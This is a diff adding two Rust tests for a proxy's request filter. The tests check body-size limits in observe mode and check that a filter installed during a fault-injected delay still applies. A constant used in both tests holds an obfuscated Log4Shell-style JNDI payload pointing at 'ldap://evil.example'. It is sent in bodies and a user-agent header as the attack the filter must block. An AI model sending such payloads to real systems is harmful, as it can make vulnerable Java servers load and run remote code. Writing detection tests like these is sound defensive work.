@@ -4,13 +4,16 @@ use crate::{
     apps::{
         Answer, absolute, failing_app, get, http_app, http1, http2, raw, request, streaming, text, whole,
     },
-    world::{Pair, soon},
+    world::{Pair, soon, until},
 };
 use bytes::Bytes;
 use http::{HeaderMap, Method, Request, Response};
 use http_body_util::BodyExt;
 use hyper::body::Frame;
-use meridian_proxy_config::{FilterAction, FilterPattern, Protocol, RequestFilter, RequestPart, RuleSet};
+use meridian_proxy_config::{
+    CallerMatch, Effect, Fault, FaultRule, FilterAction, FilterPattern, Protocol, RequestFilter, RequestPart,
+    RuleSet,
+};
 use std::{io::Write, net::SocketAddr};
 
 const ATTACK: &str = "${${lower:j}${::-n}di:ldap://evil.example/a}";
@@ -284,4 +287,41 @@ async fn an_upgrade_hides_no_body() {
     let pair = filtered(Protocol::Http, application, filter()).await;
     let upgrade = "GET /upgrade HTTP/1.1\r\nHost: b\r\nConnection: Upgrade\r\nUpgrade: chat\r\n\r\n";
     assert!(raw(pair.outbound, upgrade.as_bytes()).await.starts_with("HTTP/1.1 101"));
+}
+
+/// A first finding that is only observed ends no body's limits.
+#[tokio::test]
+async fn limits_block_what_is_otherwise_observed() {
+    let filter =
+        RequestFilter { action: FilterAction::Observe, max_body_bytes: 100, status: 413, ..filter() };
+    let pair = filtered(Protocol::Http, patient(false).await, filter).await;
+    let (sender, body) = streaming();
+    tokio::spawn(async move {
+        for _ in 0..10 {
+            // Whoever is refused may not want the rest.
+            drop(sender.send(Frame::data(Bytes::from_static(ATTACK.as_bytes()))).await);
+        }
+    });
+    let answer = send(&pair, request(Method::POST, "/", body)).await;
+    assert_eq!((answer.status, answer.denied()), (413, Some("request-filter")));
+    assert_eq!(counted(&pair), (1, 1));
+}
+
+/// Whoever waits for a fault's delay meets the filter that is in force when it ends.
+#[tokio::test]
+async fn a_filter_that_comes_during_a_delay_is_in_force() {
+    let (application, seen) = http_app(false).await;
+    let pair = Pair::start(Protocol::Http, application).await;
+    let delay = Fault { per_million: 1_000_000, effect: Effect::Delay(1_500) };
+    let slow = FaultRule { caller: CallerMatch::default(), faults: vec![delay] };
+    pair.inbound_policies(|policies| policies.faults = vec![slow]).await;
+    let mut attack = get("/headers");
+    attack.headers_mut().insert("user-agent", ATTACK.parse().unwrap());
+    let mut client = http1(pair.outbound).await;
+    let waiting = tokio::spawn(async move { client.send_request(attack).await.unwrap() });
+    let traffic = pair.backend.engine.shared().metrics.traffic("inbound", "backend");
+    until("it waits", async || (traffic.cell(0).faults_delayed.value() == 1).then_some(())).await;
+    pair.inbound_policies(|policies| policies.filter = Some(filter())).await;
+    let answer = whole(soon("an answer", waiting).await.unwrap()).await;
+    assert_eq!((answer.status, answer.denied(), seen.requests()), (403, Some("request-filter"), 0));
 }
